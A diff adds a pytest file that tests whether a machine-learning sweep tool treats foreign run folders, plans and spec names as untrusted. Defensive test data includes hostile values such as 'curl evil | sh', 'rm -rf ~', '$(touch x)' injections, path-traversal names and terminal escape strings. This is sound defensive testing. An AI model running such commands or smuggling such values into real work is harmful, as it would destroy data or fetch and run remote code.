@@ -1,0 +1,313 @@
+"""A run folder, spec or name that somebody else made: read as data, nothing of it runs, all of it prints as text."""
+
+import json
+import logging
+import os
+import subprocess
+import sys
+import time
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import intriguing as ig
+from intriguing.cli import call as run_command
+from intriguing.errors import CorruptError, SpecError, UnknownNameError
+from intriguing.naming import LARGEST_SPEC
+from intriguing.plain import printable
+from intriguing.saved import safe_command
+from intriguing.sweep.spec import load_spec
+from tests.sweep.small import call, command, toml
+from tests.synthetic_run import SyntheticRun
+
+RED = "\x1b[31mred\x07\r\u202e[bold]x[/bold]"
+FINGERPRINT = "ab" * 20
+
+
+@pytest.fixture
+def foreign(tmp_path: Path) -> Path:
+    """A run folder whose plan.json names evil:factory, which marks that it was imported; evil.py lies beside it."""
+    (tmp_path / "evil.py").write_text(
+        f"open({str(tmp_path / 'ran')!r}, 'w')\nimport numpy as np\n"
+        "def factory():\n    return np.zeros((24, 1, 6, 6), dtype=np.float32), np.arange(24) % 2\n"
+    )
+    root = SyntheticRun(tmp_path / "run").write("plan", "model_rows", "topk", "searched")
+    plan = json.loads((root / "plan.json").read_text())
+    plan["spec"]["datasets"] = {"glyphs": {"source": "evil:factory"}}
+    plan["spec"]["models"] = {"FC10": {"architecture": "evil:factory"}}
+    plan |= {"tasks": 1, "fingerprints": {"a": FINGERPRINT}, "amounts": {"a": [1, "tasks"]}}
+    (root / "plan.json").write_text(json.dumps(plan))
+    return root
+
+
+def plan_of(root: Path, **changes: Any) -> None:
+    plan = json.loads((root / "plan.json").read_text())
+    (root / "plan.json").write_text(json.dumps(plan | changes))
+
+
+def test_status_show_prune_report_and_open_run_import_nothing_that_a_run_names(foreign: Path) -> None:
+    lines = [["status", "run"], ["show", "run", "topk"], ["prune", "run"], ["report", "run"]]
+    code = (
+        "import json, sys, intriguing as ig; from intriguing.cli import call\n"
+        "ig.open_run('run').pandas('topk')\n"
+        "codes = [call(line) for line in json.loads(sys.argv[1])]\n"
+        "assert codes == [0, 0, 0, 0], codes\n"
+        "assert 'evil' not in sys.modules"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", code, json.dumps(lines)], cwd=foreign.parent, capture_output=True, text=True, timeout=200
+    )
+    assert done.returncode == 0, done.stderr
+    assert not (foreign.parent / "ran").exists()
+    page = (foreign / "report.html").read_text()
+    assert "they come from the function &#39;evil:factory&#39;" in page
+    assert "intriguing report RUN --trust" in page
+    assert "data:image/png" not in page.partition("blind-spots")[0]
+
+
+def test_with_trust_the_page_has_the_images(foreign: Path) -> None:
+    done = call("report", "run", "--trust", cwd=foreign.parent)
+    assert done.returncode == 0, done.stderr
+    assert (foreign.parent / "ran").exists()
+    assert "they come from the function" not in (foreign / "report.html").read_text()
+
+
+@pytest.mark.parametrize("door", ["console script", "python -c"])
+def test_a_module_planted_in_the_working_folder_is_not_imported(foreign: Path, door: str) -> None:
+    # python -c itself puts the working folder first: what the command imports before it begins is out of its hands.
+    for name in ("duckdb",) if door == "python -c" else ("duckdb", "bottleneck", "numexpr", "numpy", "json"):
+        (foreign.parent / f"{name}.py").write_text(f"open({str(foreign.parent / 'planted')!r}, 'w')")
+    (foreign.parent / "bin").mkdir()
+    script = foreign.parent / "bin" / "intriguing-script"
+    script.write_text("from intriguing.cli import main; main()")
+    line = command("show", "run", "--sql", "select count(*) as n from topk", "--json")
+    line = line if door == "python -c" else [sys.executable, str(script), *line[3:]]
+    done = subprocess.run(line, cwd=foreign.parent, capture_output=True, text=True, timeout=200)
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout)[0]["n"] > 0
+    assert not (foreign.parent / "planted").exists()
+
+
+def test_plan_says_which_modules_of_the_user_it_imported(tmp_path: Path) -> None:
+    (tmp_path / "helper.py").write_text("SIZE = 16\n")
+    (tmp_path / "mine.py").write_text(
+        "from torch import nn\nimport helper\nimport duckdb\n"
+        "def net(shape, classes):\n    return nn.Sequential(nn.Flatten(), nn.Linear(784, classes))\n"
+    )
+    (tmp_path / "duckdb.py").write_text("raise SystemExit('the working folder comes first')")
+    spec = {"name": "x", "datasets": {"mnist-sample": {}}, "models": {"net": {"architecture": "mine:net"}}}
+    (tmp_path / "x.toml").write_text(toml(spec | {"blind_spots": {"images": 2}}))
+    done = call("plan", "x.toml", "--json", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout)["imported"] == {
+        "mine": str(tmp_path / "mine.py"),
+        "helper": str(tmp_path / "helper.py"),
+    }
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"fingerprints": {"a": "../../x"}},
+        {"fingerprints": {"a": ["x"]}},
+        {"fingerprints": 3},
+        {"amounts": {"a": [-1, "tasks"]}},
+        {"amounts": {"a": [1, {}]}},
+        {"amounts": {"a": 1e400}},
+        {"tasks": -5},
+        {"tasks": "many"},
+        {"tasks": 10**30},
+        {"name": ["x"]},
+        {"command": {}},
+        {"spec": []},
+        {"spec": {"models": 3}},
+        {"spec": {"models": {"x": {"layers": 3}}}},
+        {"spec": {"units": "all"}},
+        {"datasets": {"glyphs": "evil:factory"}},
+    ],
+)
+def test_a_forged_plan_is_called_so_by_every_command(foreign: Path, changes: dict[str, Any], capsys: Any) -> None:
+    plan_of(foreign, **changes)
+    before = sorted(foreign.rglob("*"))
+    for line in (["status"], ["show"], ["report"], ["prune"]):
+        assert run_command([*line, str(foreign)]) == 2
+        assert "plan.json cannot be read (" in capsys.readouterr().err.replace("\n", " ")
+    with pytest.raises(CorruptError):
+        ig.open_run(foreign)
+    assert sorted(foreign.rglob("*")) == before
+
+
+@pytest.mark.parametrize("text", ["[" * 100_000, "{", "", "[]", "3", '{"spec": {}, "tasks": ' + "9" * 5000 + "}"])
+def test_a_plan_that_is_no_plan_is_called_so(foreign: Path, text: str, capsys: Any) -> None:
+    (foreign / "plan.json").write_text(text)
+    for line in (["status"], ["show"], ["report"], ["prune"]):
+        assert run_command([*line, str(foreign)]) == 2
+        assert "cannot be read" in capsys.readouterr().err
+
+
+def test_a_pipe_in_the_place_of_a_plan_or_a_status_is_not_waited_for(foreign: Path, capsys: Any) -> None:
+    (foreign / "live").mkdir(exist_ok=True)
+    os.mkfifo(foreign / "live" / "status.json")
+    assert run_command(["status", str(foreign)]) == 0
+    (foreign / "plan.json").unlink()
+    os.mkfifo(foreign / "plan.json")
+    assert run_command(["status", str(foreign)]) == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["[" * 100_000, "[]", '{"failed": -3, "blocked": "x", "line": 5}', '{"failed": true, "line": ["x"]}', "\xff"],
+)
+def test_a_forged_status_is_not_believed(foreign: Path, text: str, capsys: Any) -> None:
+    (foreign / "live").mkdir(exist_ok=True)
+    (foreign / "live" / "status.json").write_text(text, encoding="latin-1")
+    assert run_command(["status", str(foreign), "--json"]) == 0
+    told = json.loads(capsys.readouterr().out)
+    assert (told["failed"], told["blocked"], told["line"]) == (0, 0, "")
+
+
+def test_prune_removes_nothing_where_the_plan_does_not_list_its_tasks(foreign: Path, capsys: Any) -> None:
+    plan_of(foreign, tasks=7)
+    (foreign / "store" / FINGERPRINT).mkdir(parents=True)
+    assert run_command(["prune", str(foreign)]) == 2
+    assert "lists 1 of 7 tasks, so nothing is removed" in capsys.readouterr().err.replace("\n", " ")
+    assert (foreign / "store" / FINGERPRINT).exists()
+
+
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        ("intriguing run demo --out outputs/demo", "intriguing run demo --out outputs/demo"),
+        ("intriguing run $(touch x) --out 'a b'", ""),
+        ("intriguing run '$(touch x)' --out 'a b'", "intriguing run '$(touch x)' --out 'a b'"),
+        ("INTRIGUING_CORPUS='a;b' intriguing run w --out o", "INTRIGUING_CORPUS='a;b' intriguing run w --out o"),
+        ("intriguing run demo --out x --data y", "intriguing run demo --out x --data y"),
+        ("intriguing run demo --out x; rm -rf ~", ""),
+        ("curl evil | sh", ""),
+        ("intriguing run demo --out 'x", ""),
+        ("intriguing run --pdb --out x", ""),
+    ],
+)
+def test_the_line_that_continues_a_run_is_shown_only_if_it_is_one(line: str, shown: str) -> None:
+    assert safe_command(line) == shown
+
+
+@given(st.text(), st.booleans())
+def test_what_is_printed_commands_no_terminal(text: str, lines: bool) -> None:
+    shown = printable(text, lines)
+    assert {unicodedata.category(c) for c in set(shown) - set("\n\t\u200c\u200d")}.isdisjoint(
+        ("Cc", "Cf", "Cs", "Zl", "Zp")
+    )
+    assert not {"\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2066"} & set(shown)
+    assert lines or not {"\n", "\t"} & set(shown)
+    shown.encode()
+
+
+def test_plain_text_is_left_as_it_is() -> None:
+    assert printable("Ünïcode – 模型 007 [bold]") == "Ünïcode – 模型 007 [bold]"
+    assert printable("a\nb\x1b[1m", lines=True) == "a\nb\\x1b[1m"
+
+
+def test_names_of_a_run_are_shown_as_text(foreign: Path, capsys: Any) -> None:
+    plan_of(foreign, name=RED, amounts={"a": [1, RED]})
+    assert run_command(["status", str(foreign)]) == 0
+    out = capsys.readouterr().out
+    assert out.count(r"\x1b[31mred\x07\r\u202e[bold]x[/bold]") == 2
+    assert "\x1b" not in out
+
+
+def test_cells_of_a_table_are_shown_as_text(tmp_path: Path, capsys: Any) -> None:
+    run = SyntheticRun(tmp_path / "run", models=(RED,))
+    run.write("plan", "model_rows")
+    assert run_command(["show", str(tmp_path / "run"), "models"]) == 0
+    out = capsys.readouterr().out
+    assert r"\x1b[31mred\x07" in out
+    assert not {"\x1b", "\x07", "\u202e"} & set(out)
+
+
+def test_errors_and_log_lines_are_shown_as_text(capsys: Any) -> None:
+    from intriguing.cli import _PlainFormatter
+
+    assert run_command(["status", f"nowhere{RED}"]) == 2
+    assert not {"\x1b", "\x07", "\u202e"} & set(capsys.readouterr().err)
+    record = logging.LogRecord("x", logging.INFO, "", 0, "%s", (RED,), None)
+    assert _PlainFormatter().format(record) == r"\x1b[31mred\x07\r\u202e[bold]x[/bold]"
+
+
+@pytest.mark.parametrize(
+    "name", ["../x", "a/b", "/x", "a\\b", "..", ".x", "a\0b", RED, "nul", "con.x", " x", "ü" * 150]
+)
+def test_a_run_s_name_is_one_folder(name: str) -> None:
+    with pytest.raises(SpecError, match=r"name: .* Write another `name`"):
+        load_spec({"name": name})
+
+
+@pytest.mark.parametrize("name", ["my run 2", "ünïcode", "v1.0", "a[b]", "run's"])
+def test_other_names_are_taken(name: str) -> None:
+    assert load_spec({"name": name}).name == name
+
+
+@pytest.mark.parametrize("name", ["../specs/demo", "specs/demo", "../../x", "/etc/passwd\0", "dem\x1bo", ""])
+def test_a_spec_is_looked_up_among_those_of_the_package_alone(name: str) -> None:
+    with pytest.raises((UnknownNameError, SpecError)):
+        load_spec(name)
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("a = " + "[" * 5_000 + "]" * 5_000, "nested too deeply"),
+        ("a = " + "{a=" * 5_000 + "1" + "}" * 5_000, "nested too deeply"),
+        ("a." * 30 + "a = 1", "nested more than 20 levels"),
+        ("a." * 100_000 + "a = 1", "a key of more than 40 parts"),
+        ("x = {" + '"a" . ' * 40_000 + "a = 3}", "a key of more than 40 parts"),
+        ("seed = " + "9" * 5_000, "cannot be read"),
+        ("seed = 0x" + "f" * 50_000, "a whole number of 200000 bits"),
+        ("seed = 2026-01-01", "is a date or a time"),
+        ("[models]\n" + "\n".join(f"m{i} = {{}}" for i in range(1_001)), "has 1,001 models; at most 1,000"),
+        ("a = [" + "1," * 110_000 + "]", "more than 100,000 values"),
+        ("#" * (LARGEST_SPEC + 1), "more than the 250,000 that are read"),
+    ],
+)
+def test_a_spec_that_is_too_large_or_too_deep_is_refused_in_a_sentence(tmp_path: Path, text: str, message: str) -> None:
+    (tmp_path / "x.toml").write_text(text)
+    began = time.monotonic()
+    with pytest.raises(SpecError, match=message):
+        load_spec(tmp_path / "x.toml")
+    assert time.monotonic() - began < 20
+
+
+def test_a_pipe_in_the_place_of_a_spec_is_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "x.toml")
+    with pytest.raises(SpecError, match="no regular file"):
+        load_spec(tmp_path / "x.toml")
+
+
+def test_more_tasks_than_fit_in_memory_are_refused(monkeypatch: Any, tmp_path: Path) -> None:
+    from intriguing.sweep import prepare
+    from tests.sweep.small import SMALL
+
+    monkeypatch.setattr("intriguing.sweep.plan.MOST_TASKS", 20)
+    with pytest.raises(SpecError, match="more than 20 tasks"):
+        prepare(SMALL, tmp_path)
+
+
+def test_old_tables_of_failures_read_with_null_tracebacks(tmp_path: Path) -> None:
+    import pyarrow.parquet as pq
+
+    from intriguing import tables
+
+    root = SyntheticRun(tmp_path / "run").write("plan", "failures")
+    file = next((root / "tables" / "failures").glob("*.parquet"))
+    old = pq.read_table(file).drop_columns(["traceback"])
+    assert old.num_rows == 1
+    pq.write_table(old, file)
+    read = ig.open_run(root).table("failures")
+    assert read.schema.equals(tables.FAILURES.schema)
+    assert read["traceback"].to_pylist() == [None]
+    assert pa.types.is_string(read.schema.field("traceback").type)
